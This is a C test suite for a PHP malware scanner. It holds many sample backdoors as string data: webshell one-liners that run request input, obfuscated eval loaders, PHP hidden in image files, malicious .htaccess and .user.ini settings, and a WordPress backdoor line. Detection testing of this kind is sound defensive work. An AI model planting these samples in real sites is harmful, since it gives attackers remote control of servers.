// SPDX-License-Identifier: GPL-2.0-or-later
/* phpscan, yarascan and analyse on samples written here: one per finding
 * class, a backdoor line injected into a real WordPress core file (Debian's
 * tree, via scripts/fixtures.sh), and benign code that must stay clean. */
#include <dirent.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#define ZLIB_CONST /* next_in points to const */
#include <zlib.h>

#include "analyse.h"
#include "phpscan.h"
#include "t.h"
#include "util.h"
#include "yarascan.h"

static struct phpscan_result res;

static int
scan(const char *name, const char *src)
{
	return phpscan_buf((const uint8_t *)src, strlen(src), name, &res);
}

static const struct phpscan_finding *
find(enum phpscan_class c)
{
	unsigned i;

	for (i = 0; i < res.n; i++)
		if (res.f[i].cls == c)
			return &res.f[i];
	return NULL;
}

/* the class is found with at least this confidence, at this line (0: any) */
static int
has(enum phpscan_class c, enum phpscan_conf conf, uint32_t line)
{
	const struct phpscan_finding *f = find(c);

	return f != NULL && f->conf >= conf && (line == 0 || f->line == line);
}

static void
dump(void)
{
	unsigned i;

	for (i = 0; i < res.n; i++)
		printf("    %s/%s line %u: %s\n", phpscan_class_name(res.f[i].cls), phpscan_conf_name(res.f[i].conf),
		       res.f[i].line, res.f[i].excerpt);
}

#define T_HAS(name, src, cls, conf, line)                                                                   \
	do {                                                                                                \
		scan(name, src);                                                                            \
		T_CHECK(has(cls, conf, line), "%s: no %s at line %u", #src, phpscan_class_name(cls), line); \
		if (!has(cls, conf, line))                                                                  \
			dump();                                                                             \
	} while (0)

#define T_CLEAN(name, src)                                                                                  \
	do {                                                                                                \
		scan(name, src);                                                                            \
		T_CHECK(res.worst == PHPSCAN_NOTE && res.notes < 2, "%s: not clean", #src);                 \
		if (res.worst != PHPSCAN_NOTE)                                                              \
			dump();                                                                             \
	} while (0)

static void
test_droppers(void)
{
	/* the one-line dropper, and its kin */
	T_HAS("x.php", "<?php @eval($_POST['x']); ?>", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php\n\n  system($_GET['c']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php assert(stripslashes($_REQUEST[\"a\"]));", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php echo `$_GET[c]`;", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php $_GET['f']($_GET['a']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php $h = getallheaders(); eval($h['X-Run']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php eval(file_get_contents('php://input'));", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php passthru($_SERVER['HTTP_X_CMD']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php call_user_func($_POST['f'], $_POST['a']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php array_map('assert', array($_REQUEST['p']));", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
	      1);
	T_HAS("x.php", "<?php preg_replace('/.*/e', $_POST['c'], '');", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php $f = create_function('', $_POST['b']); $f();", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php include $_GET['page'];", PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php include 'php://input';", PHPSCAN_INCLUDE_OF_STREAM, PHPSCAN_HIGH, 1);
}

static void
test_tokenizer(void)
{
	/* whitespace, comments and case between a name and its parenthesis */
	T_HAS("x.php", "<?php EvAl /* x */ (\n $_GET['c']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php \\system # c\n($_COOKIE['c']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	/* code in comments, strings and heredocs is not code */
	T_CLEAN("x.php", "<?php // eval($_POST['x']);\n/* system($_GET['c']); */\necho 'ok';");
	T_CLEAN("x.php", "<?php $doc = 'eval($_POST[1])'; echo $doc;");
	T_CLEAN("x.php", "<?php echo <<<EOT\nsystem($_GET[c]);\nEOT;\necho 1;");
	T_CLEAN("x.php", "<?php echo <<<'EOT'\neval($_POST[c]);\nEOT;\n");
	/* `?>` ends PHP, also inside a line comment; what follows is HTML */
	T_CLEAN("x.php", "<?php // ?> eval($_GET['x']);\n");
	T_CLEAN("x.php", "<html><p>eval($_GET['x'])</p></html>");
	/* names are looked up whole, in any case: a sink's name with a byte
	 * more, less or other is another function */
	T_HAS("x.php", "<?php ShElL_ExEc($_GET['c']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php PROC_OPEN($_POST['c'], $d, $p);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_CLEAN("x.php", "<?php systemx($_GET['c']); syste($_GET['c']); xsystem($_GET['c']);");
	T_CLEAN("x.php", "<?php system\xc3($_GET['c']); shell_exec_and_a_name_too_long_to_be_one($_GET['c']);");
	/* an object's method named like a sink is not the sink */
	T_CLEAN("x.php", "<?php $db->exec($_POST['sql']); Foo::system($_GET['x']);");
	/* a definition is not a call */
	T_CLEAN("x.php", "<?php function system2($a) { return $a; } class A { function exec($c) {} }");
	/* unterminated constructs end at the end of the buffer */
	T_CLEAN("x.php", "<?php echo 'open");
	T_CLEAN("x.php", "<?php /* open");
	T_CLEAN("x.php", "<?php echo <<<EOT\nno end");
	T_CLEAN("x.php", "");
}

static void
test_taint(void)
{
	T_HAS("x.php", "<?php\n$c = $_POST['c'];\n$d = trim($c);\nsystem($d);", PHPSCAN_EXEC_OF_INPUT,
	      PHPSCAN_HIGH, 4);
	T_HAS("x.php", "<?php foreach ($_POST as $k => $v) { eval($v); }", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	/* a function that runs its parameter, called with input */
	T_HAS("x.php", "<?php\nfunction run($x) { return shell_exec($x); }\necho run($_GET['q']);",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	/* register_globals: a top-level variable the file never assigns, run */
	T_HAS("x.php", "<?php\nif (isset($cmd)) {\n  echo '<pre>';\n  system(\"$cmd 2>&1\");\n}", PHPSCAN_EXEC_OF_INPUT,
	      PHPSCAN_WEAK, 4);
	/* assigned by =, foreach, list(), preg_match's output: the file's own */
	T_CLEAN("x.php", "<?php $c = 'uptime'; system($c); foreach ($cmds as $d) { exec($d, $out); }"
			 " list($e) = explode(' ', $x); passthru($e); preg_match('/x/', $y, $m); shell_exec($m[0]);");
	/* a function's variables are its own: $id from the request in one, a path in another */
	T_CLEAN("x.php", "<?php\nfunction up() { $id = $_POST['id']; return clean($id); }\n"
			 "function keep($id) { $old = path_of($id); $new = path_of($id, time()); copy($old, $new); }\n");
	T_HAS("x.php", "<?php\nfunction run() { $c = $_POST['c']; system($c); }\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
	/* bodies without braces: each a statement of its own */
	T_HAS("x.php", "<?php\nif (isset($_POST['x'])) $c = $_POST['x'];\nsystem($c);", PHPSCAN_EXEC_OF_INPUT,
	      PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php\n$p = $_POST['p'];\nfor ($i = 0; $i < strlen($p); $i += 2) $b .= chr(hexdec(substr($p, $i, 2)));\n"
		       "assert($b);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
	T_CLEAN("x.php", "<?php\nif ($debug) $c = 'uptime';\nelse $c = 'date';\nsystem($c);");
	/* a sanitizer breaks the flow */
	T_CLEAN("x.php", "<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' out.png');");
	T_CLEAN("x.php", "<?php system('ls -l ' . intval($_GET['n']));");
	/* an index selects an element, the element is not input */
	T_CLEAN("x.php", "<?php $cbs = array('a' => 'f1'); call_user_func($cbs[$_GET['k']]);");
	/* a closure's parameter is not the caller's variable */
	T_CLEAN("x.php", "<?php $p = $_GET['p']; $r = array_map(function ($p) { return $p . 'x'; }, $list);");
}

static void
test_obfuscation(void)
{
	/* an obfuscated loader */
	T_HAS("x.php", "<?php\n$z = 'ZWNobyAxOw==';\neval(gzinflate(base64_decode($z)));\n",
	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php eval(str_rot13(gzinflate(str_rev(base64_decode('AAAA')))));",
	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 1);
	/* a variable named by a variable: ${$a} calls what $Acc holds */
	T_HAS("x.php", "<?php\n$A = 'Acc';\n$x = 'as'; $y = 'sert';\n$Acc = $x . $y;\n${$A}($_POST['z']);",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 5);
	T_CLEAN("x.php", "<?php $n = 'title'; $title = 'Home'; echo ${$n}; $f = 'strtoupper'; echo ${'f'}($title);");
	/* names given as their bytes to pack('c*', ...) */
	T_HAS("x.php", "<?php\n$f = pack('c*', 0x73, 0x79, 115, 116, 0x65, 0x6d);\n$f('id');", PHPSCAN_OBFUSCATED_CALL,
	      PHPSCAN_HIGH, 2);
	T_CLEAN("x.php", "<?php $hdr = pack('C*', 0x89, 0x50, 0x4e, 0x47); $n = pack('N', 42); echo $hdr . $n;");
	/* a pattern spelled in chr(): its modifiers are hidden too */
	T_HAS("x.php", "<?php\n$p = $_POST;\n$k = 'q1w2';\npreg_replace(chr(47) . $k . chr(47) . chr(101), $p['c'], $k);",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
	/* names picked letter by letter from an alphabet of the file's own */
	T_HAS("x.php", "<?php\n$ab = 'abcdefghijklmnopqrstuvwxyz0123456789';\n$d = $ab[3] . $ab{4} . $ab[2] . $ab[14] . $ab[3] . $ab[4];\n"
		       "$n = $ab[1] . $ab[0] . $ab[18] . $ab[4] . $ab[32] . $ab[30] . '_' . $d;\necho $n($blob);",
	      PHPSCAN_OBFUSCATED_CALL, PHPSCAN_HIGH, 5);
	T_CLEAN("x.php", "<?php\n$hex = '0123456789abcdef';\n$id = $hex[3] . $hex[10] . $hex[15];\necho $id;\n"
			 "$v = explode('.', $ver);\n$major = $v[0] . $v[1];\n");
	/* names hidden by escapes, rot13, reversal, concatenation */
	T_HAS("x.php", "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f('id');", PHPSCAN_OBFUSCATED_CALL,
	      PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php $f = str_rot13('nffreg'); $f($_REQUEST['c']);", PHPSCAN_OBFUSCATED_CALL,
	      PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php $a = 'as' . 'se' . 'rt'; $a($_POST['z']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php ${'_PO' . 'ST'}['x'](${'_PO' . 'ST'}['y']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
	      1);
	/* a payload that decodes to PHP */
	T_HAS("x.php", "<?php file_put_contents('a.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+'));",
	      PHPSCAN_HIDDEN_PHP, PHPSCAN_HIGH, 1);
	/* a name cleaned out of filler by str_replace */
	T_HAS("x.php", "<?php $a = str_replace('q', '', 'aqsqsqeqrqt');\n$a($_POST['c']);", PHPSCAN_OBFUSCATED_CALL,
	      PHPSCAN_HIGH, 1);
	/* a packer's output: strings and bare words xor'ed, or'ed, and'ed */
	{
		char buf[4096];
		size_t o = (size_t)snprintf(buf, sizeof(buf), "<?php\n");
		int i;

		for (i = 0; i < 30; i++)
			o += (size_t)snprintf(buf + o, sizeof(buf) - o, "$v%d = 'Kq3'^aZx%d|'@@'&'%c';\n", i, i,
					      'a' + i % 26);
		T_HAS("x.php", buf, PHPSCAN_XOR_STRINGS, PHPSCAN_HIGH, 0);
	}
	/* flags and constants or'ed are not a packer */
	T_CLEAN("x.php", "<?php error_reporting(E_ERROR | E_WARNING | E_PARSE); if ($a == 'x' || $b == 'y' && $c) {}");
	/* a sink handed to a method as its callback; 'system' as an event's name is not one */
	T_HAS("x.php", "<?php $a = new ArrayObject(array($_REQUEST['p'])); $a->uasort('assert');",
	      PHPSCAN_OBFUSCATED_CALL, PHPSCAN_WEAK, 1);
	T_CLEAN("x.php", "<?php $events->registerHandler('init', 'system', 'my_init');");
	/* the whole pattern of preg_replace from a source */
	T_HAS("x.php", "<?php $x = exif_read_data('a.jpg'); preg_replace($x['Make'], $x['Model'], '');",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_WEAK, 1);
	/* code without letters */
	T_HAS("x.php", "<?php $_=[];$_[]=@!+_;$__=@${_}>>$_;$_[]=$__;$_[]=@_;$___=$_[$__];$_[$__].=$_;$__($_[$___]);",
	      PHPSCAN_SYMBOL_SOUP, PHPSCAN_WEAK, 1);
	/* a name picked from an alphabet with old-style offsets, then called */
	T_HAS("x.php", "<?php $a = 'sewtemznypianol'; $f = $a{0}.$a{8}.$a{0}.$a{3}.$a{1}.$a{5}.$a{0}.$a{8}.$a{0}.$a{3}"
		       ".$a{1}.$a{5}.$a{0}.$a{8}.$a{0}.$a{3}.$a{1}.$a{5};",
	      PHPSCAN_CHAR_BY_CHAR, PHPSCAN_WEAK, 1);
	/* @ before an assignment does not hide it */
	T_HAS("x.php", "<?php @$x = 'as' . 'sert'; @$x($_POST['p']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	/* chr() soup feeding eval */
	T_HAS("x.php",
	      "<?php eval(chr(101).chr(99).chr(104).chr(111).chr(32).chr(49).chr(59).chr(32).chr(32).chr(32));",
	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 1);
	/* string literals xor'ed */
	T_HAS("x.php", "<?php $a = ('!' ^ '@') . ('#' ^ 'p') . ('%' ^ 'q'); $b = ('1' ^ 'z') . ('2' ^ 'y');",
	      PHPSCAN_XOR_STRINGS, PHPSCAN_WEAK, 1);
}

static void
test_placement(void)
{
	static const char ico[] = "\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00<?php system($_GET['c']); ?>";
	static const char png[] = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<?php eval($_POST[1]);";

	/* PHP inside an .ico */
	phpscan_buf((const uint8_t *)ico, sizeof(ico) - 1, "favicon.ico", &res);
	T_OK(has(PHPSCAN_PHP_IN_IMAGE, PHPSCAN_HIGH, 1));
	T_OK(has(PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1));
	phpscan_buf((const uint8_t *)png, sizeof(png) - 1, "logo.png", &res);
	T_OK(has(PHPSCAN_PHP_IN_IMAGE, PHPSCAN_HIGH, 3)); /* the PNG header holds two newlines */
	/* a .jpg that is PHP */
	T_HAS("uploads/2024/01/logo.jpg", "<?php\n@include $_GET['x'];", PHPSCAN_PHP_IN_NON_PHP, PHPSCAN_WEAK, 1);
	/* a document quoting PHP is not PHP, nor a plain image */
	T_CLEAN("README.txt", "Install:\n  <?php include $_GET['x']; ?>\nis how not to do it.\n");
	phpscan_buf((const uint8_t *)"\x89PNG\r\n\x1a\n\x00\x00<?xml", 15, "a.png", &res);
	T_EQ_INT(res.n, 0);
	/* a picture whose compressed bytes hold "<?=" or "<?php" by chance is no
	 * PHP: the bytes after the tag are no statement */
	{
		static const char chance[] = "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01<?=\x9c\x11$\xf0(\x01;\x00"
					     "\x88<?=a\x01$;\x7f<?php\x02\x03;<?=;\x00<?= text, no code; \xfe";
		static const char jpg[] = "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x9c<?=\xa0\x01\n"
					  "\xfe\x00<?= $_GET['x'] ?>\x00";
		static const char gifphp[] = "GIF89a\x01\x00\x01\x00\n<?php eval($_POST['c']);\n";
		struct buf big;
		size_t i;

		phpscan_buf((const uint8_t *)chance, sizeof(chance) - 1, "photo.jpg", &res);
		T_EQ_INT(res.n, 0);
		/* the code after a chance tag is still found, on its own line */
		phpscan_buf((const uint8_t *)jpg, sizeof(jpg) - 1, "photo.jpg", &res);
		T_OK(has(PHPSCAN_PHP_IN_IMAGE, PHPSCAN_HIGH, 2));
		/* a .php behind a GIF header: a shell made to pass an upload's check */
		phpscan_buf((const uint8_t *)gifphp, sizeof(gifphp) - 1, "avatar.php", &res);
		T_OK(has(PHPSCAN_PHP_IN_IMAGE, PHPSCAN_HIGH, 2));
		T_OK(has(PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2));
		/* a PHP file whose text begins "BM" is no bitmap */
		T_CLEAN("bm.php", "BMW models: <?php echo count($cars); ?> of them\n");
		/* a megabyte of tags in one run of text: searched once, nothing */
		buf_init(&big, 4 << 20);
		buf_append(&big, "\xff\xd8\xff\xe0", 4);
		for (i = 0; i < (1u << 20) / 3; i++)
			buf_append(&big, "<?=", 3);
		phpscan_buf((const uint8_t *)big.data, big.len, "tags.jpg", &res);
		T_EQ_INT(res.n, 0);
		buf_free(&big);
	}
	/* code pushed off-screen */
	{
		char buf[600];

		snprintf(buf, sizeof(buf), "<?php\necho 1;\n%*s eval($x);\n", 300, "");
		T_HAS("x.php", buf, PHPSCAN_HIDDEN_CODE, PHPSCAN_WEAK, 3);
	}
}

static void
test_config_files(void)
{
	/* an .htaccess making .jpg executable */
	T_HAS(".htaccess", "RewriteEngine On\nAddType application/x-httpd-php .jpg .php\n",
	      PHPSCAN_HTACCESS_HANDLER, PHPSCAN_HIGH, 2);
	T_HAS("up/.htaccess", "<FilesMatch \"\\.(jpe?g|png)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n",
	      PHPSCAN_HTACCESS_HANDLER, PHPSCAN_HIGH, 2);
	T_HAS(".htaccess", "AddHandler php-script .txt\n", PHPSCAN_HTACCESS_HANDLER, PHPSCAN_HIGH, 1);
	T_HAS(".htaccess", "# x\nphp_value auto_prepend_file /var/www/up/a.gif\n", PHPSCAN_AUTO_PREPEND,
	      PHPSCAN_HIGH, 2);
	/* auto_prepend_file in .user.ini */
	T_HAS(".user.ini", "; site\nauto_prepend_file = \"/var/www/s/wp-content/uploads/2024/01/logo.jpg\"\n",
	      PHPSCAN_AUTO_PREPEND, PHPSCAN_HIGH, 2);
	T_HAS(".user.ini", "auto_append_file=/tmp/x.php\n", PHPSCAN_AUTO_PREPEND, PHPSCAN_HIGH, 1);
	/* a prepend of a PHP file elsewhere is worth a look, not an alarm */
	scan(".user.ini", "auto_prepend_file = '/var/www/s/waf/firewall-waf.php'\n");
	T_OK(has(PHPSCAN_AUTO_PREPEND, PHPSCAN_WEAK, 1) && res.worst == PHPSCAN_WEAK);
	/* what hosts and applications write every day */
	T_CLEAN(".htaccess", "Deny from all\n");
	T_CLEAN(".htaccess", "<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\n"
			     "RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n</IfModule>\n");
	T_CLEAN(".htaccess", "<FilesMatch \\.php$>\n  SetHandler \"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost\"\n"
			     "</FilesMatch>\nAddType application/x-httpd-php .php\n");
	T_CLEAN(".user.ini", "upload_max_filesize = 64M\nauto_prepend_file = none\n");
}

static void
test_writers(void)
{
	/* a file editor: where and what both from the request */
	T_HAS("x.php", "<?php\n$f = $_POST['path'];\nfwrite(fopen($f, 'w'), $_POST['body']);", PHPSCAN_WRITE_OF_INPUT,
	      PHPSCAN_WEAK, 3);
	/* a download dropper */
	T_HAS("x.php", "<?php copy('http://example.invalid/s.txt', 'x.php');", PHPSCAN_REMOTE_DROPPER, PHPSCAN_WEAK,
	      1);
	/* an uploader that keeps the client's name, and one that does not */
	T_HAS("x.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
	      PHPSCAN_UPLOAD_AS_NAMED, PHPSCAN_WEAK, 1);
	T_CLEAN("x.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . basename($_FILES['f']['name']));");
	/* a database console */
	T_HAS("x.php", "<?php $r = mysqli_query($link, $_POST['sql']);", PHPSCAN_SQL_OF_INPUT, PHPSCAN_WEAK, 1);
	/* a cache file written by the application is not an editor */
	T_CLEAN("x.php", "<?php file_put_contents(__DIR__ . '/cache/' . md5($_GET['q']) . '.json', json_encode($r));");
}

static void
test_mailer(void)
{
	T_HAS("x.php", "<?php\n$to = explode(\"\\n\", $_POST['list']);\nforeach ($to as $t) {\n"
		       "  mail($t, $_POST['s'], $_POST['b']);\n}\n",
	      PHPSCAN_MASS_MAILER, PHPSCAN_WEAK, 4);
	/* a contact form mails once */
	T_CLEAN("x.php", "<?php mail('me@example.org', 'contact', $_POST['msg']);");
}

/* what phpscan learned from the tools shells carry */
static void
test_hidden_runners(void)
{
	/* a callback named by pieces of an exploded literal, given the request */
	T_HAS("x.php", "<?php\n$p = explode('.', 'hello.ass.world.er.t');\nregister_shutdown_function($p[1] . $p[3] . $p[4], "
		       "$_REQUEST['k']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	/* ... or xor'ed with decoded bytes */
	T_HAS("x.php", "<?php\n$n = 'abcdef';\n$f = $n ^ hex2bin('12101f040107');\narray_intersect_uassoc(array($_POST['p'] => 1), "
		       "array(1), $f);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
	/* a callback held in a variable of known value, or a plain one, is no runner */
	T_CLEAN("x.php", "<?php\n$fn = 'trim';\n$a = array_map($fn, $_POST['list']);\n$b = array_map('intval', $_GET['ids']);\n"
			 "usort($rows, array($this, 'cmp'));\n");
	/* $_SERVER as a whole holds the request's headers */
	T_HAS("x.php", "<?php\n$a = array_values($_SERVER);\nsystem($a[6]);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\n$root = $_SERVER['DOCUMENT_ROOT'];\nforeach ($_SERVER as $k => $v) echo htmlspecialchars($k);\n");
	/* a payload in an alphabet of punctuation, decoded by a loop */
	{
		char buf[8192];
		size_t n = 0;
		int i;

		n += (size_t)snprintf(buf, sizeof(buf), "<?php for($o=0,$e='");
		for (i = 0; i < 400; i++)
			n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s", &"&(*+,-.:]^_`{|}~"[(i * 7) % 13]);
		snprintf(buf + n, sizeof(buf) - n, "',$d='';$o<strlen($e);$o++){$d.=chr(ord($e[$o])-32);}\n");
		T_HAS("x.php", buf, PHPSCAN_ENCODED_BLOB, PHPSCAN_WEAK, 1);
	}
	/* a file that is mostly one encoded payload */
	{
		char buf[4096];
		size_t n = 0;
		uint32_t x = 12345;
		int i;
		static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

		n += (size_t)snprintf(buf, sizeof(buf), "<?php\n$GLOBALS['res']['m'] = \"");
		for (i = 0; i < 3000; i++) {
			x = x * 1103515245u + 12345u;
			buf[n++] = b64[(x >> 16) & 63];
		}
		snprintf(buf + n, sizeof(buf) - n, "\";\n");
		T_HAS("x.php", buf, PHPSCAN_ENCODED_BLOB, PHPSCAN_WEAK, 2);
	}
	/* a lookup table of characters is data: no chr() soup, no letters spelled */
	T_CLEAN("x.php", "<?php\n$encode = array(\n chr(0) => '%U', chr(1) => '$A', chr(2) => '$B', chr(3) => '$C',\n"
			 " chr(4) => '$D', chr(5) => '$E', chr(6) => '$F', chr(7) => '$G', chr(8) => '$H',\n"
			 " chr(9) => '$I', chr(10) => '$J', chr(11) => '$K', chr(12) => '$L', chr(13) => '$M',\n"
			 " chr(14) => '$N', chr(15) => '$O', chr(16) => '$P', chr(17) => '$Q', chr(18) => '$R',\n"
			 " chr(19) => '$S', chr(20) => '$T', chr(21) => '$U', chr(22) => '$V', chr(23) => '$W',\n"
			 " chr(24) => '$X', chr(25) => '$Y', chr(26) => '$Z');\n$ext = array(\n"
			 " chr(0) => chr(131).'U', chr(1) => chr(128).'A', chr(2) => chr(128).'B', chr(3) => chr(128).'C',\n"
			 " chr(4) => chr(128).'D', chr(5) => chr(128).'E', chr(6) => chr(128).'F', chr(7) => chr(128).'G',\n"
			 " chr(8) => chr(128).'H', chr(9) => chr(128).'I', chr(10) => chr(128).'J', chr(11) => chr(128).'K',\n"
			 " chr(12) => chr(128).'L', chr(13) => chr(128).'M', chr(14) => chr(128).'N', chr(15) => chr(128).'O',\n"
			 " chr(16) => chr(128).'P', chr(17) => chr(128).'Q', chr(18) => chr(128).'R', chr(19) => chr(128).'S');\n");
	/* while a soup still is one */
	T_HAS("x.php", "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).chr(32).chr(105).chr(100).chr(32)"
		       ".chr(45).chr(97).chr(32).chr(62).chr(47).chr(100).chr(101).chr(118).chr(47).chr(110).chr(117).chr(108)"
		       ".chr(108).chr(32).chr(50).chr(62).chr(38).chr(49);", PHPSCAN_CHR_SOUP, PHPSCAN_WEAK, 1);
}

static void
test_benign(void)
{
	T_CLEAN("x.php", "<?php\nclass A {\n  function run() {\n    return call_user_func(array($this, 'go'), 1);\n"
			 "  }\n}\n$img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==');\n");
	T_CLEAN("x.php", "<?php $out = preg_replace('/\\s+/', ' ', $_POST['text']); echo htmlspecialchars($out);");
	T_CLEAN("x.php", "<?php $tpl = compile($src); eval('?>' . $tpl);");
	T_CLEAN("x.php", "<?php if (isset($_GET['p'])) { $page = basename($_GET['p']); include 'pages/' . $page . '.php'; }");
	/* PHP 8 union types are words joined by |, not a packer's strings */
	T_CLEAN("x.php", "<?php\ninterface L {\n  function a(string|\\Stringable $h);\n  function b(int|float|string|bool|array $v);\n"
			 "  function c(float | int | string | self $v): static|null;\n  function d(Foo|Bar|iterable $x);\n"
			 "  function e(mixed $m): int|false;\n}\n");
	/* assert() of a comparison tests a value, it runs no code */
	T_CLEAN("x.php", "<?php $bin = hex2bin($hex); assert($bin !== false); assert(strlen(base64_decode($s)) > 0);");
	T_CLEAN("x.php", "<?php $cb = $this->hooks[$name]; $cb($args); usort($a, function ($x, $y) { return $x <=> $y; });");
}

static void
test_limits(void)
{
	size_t n = 200000, i;
	char *p = malloc(n + 8);

	T_OK(p != NULL);
	if (p == NULL)
		return;
	/* nesting deeper than tracked, then many findings of many classes */
	memcpy(p, "<?php ", 6);
	for (i = 6; i < n / 2; i++)
		p[i] = '(';
	for (; i < n; i++)
		p[i] = ')';
	p[n] = '\0';
	T_OK(phpscan_buf((const uint8_t *)p, n, "x.php", &res) >= 0);
	T_OK(res.n <= PHPSCAN_FINDINGS_MAX);
	free(p);
	T_EQ_INT(phpscan_buf(NULL, 1, "x", &res), -EINVAL);
	T_EQ_INT(phpscan_buf((const uint8_t *)"", 0, NULL, NULL), -EINVAL);
	T_EQ_INT(phpscan_buf(NULL, 0, NULL, &res), 0);
}

/* the path of Debian's WordPress tree (scripts/fixtures.sh fetches it once) */
static int
wordpress_tree(char *out, size_t sz)
{
	const char *top = getenv("WSID_TOP");
	char cmd[4096];
	FILE *f;
	int ok;

	snprintf(cmd, sizeof(cmd), ". '%s/scripts/fixtures.sh' && fixture_tree wordpress", top ? top : ".");
	f = popen(cmd, "r");
	if (f == NULL)
		return -1;
	ok = fgets(out, (int)sz, f) != NULL;
	if (pclose(f) != 0 || !ok)
		return -1;
	out[strcspn(out, "\n")] = '\0';
	return 0;
}

static char *
slurp(const char *path, size_t *n)
{
	FILE *f = fopen(path, "rb");
	char *p = NULL;
	long l;

	if (f == NULL)
		return NULL;
	if (fseek(f, 0, SEEK_END) == 0 && (l = ftell(f)) >= 0 && fseek(f, 0, SEEK_SET) == 0) {
		p = malloc((size_t)l + 1);
		if (p && fread(p, 1, (size_t)l, f) != (size_t)l) {
			free(p);
			p = NULL;
		}
		if (p) {
			p[l] = '\0';
			*n = (size_t)l;
		}
	}
	fclose(f);
	return p;
}

/* every PHP file of WordPress core (recursively): how many are not clean */
static void
scan_tree(const char *dir, int *files, int *bad)
{
	DIR *d = opendir(dir);
	struct dirent *de;

	while (d && (de = readdir(d)) != NULL) {
		char path[4096];
		struct stat st;
		size_t n;
		char *p;

		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (lstat(path, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			scan_tree(path, files, bad);
			continue;
		}
		if (!S_ISREG(st.st_mode) || strstr(de->d_name, ".php") == NULL || (p = slurp(path, &n)) == NULL)
			continue;
		(*files)++;
		phpscan_buf((const uint8_t *)p, n, path, &res);
		if (res.worst > PHPSCAN_NOTE || res.notes >= 2) {
			(*bad)++;
			printf("  not clean: %s\n", path);
			dump();
		}
		free(p);
	}
	if (d)
		closedir(d);
}

static void
test_wordpress(void)
{
	static const char line[] = "if (isset($_REQUEST['wp_k'])) { @eval(base64_decode($_REQUEST['wp_k'])); }\n";
	char tree[2048], path[4096];
	char *orig, *inj, *nl;
	size_t n;
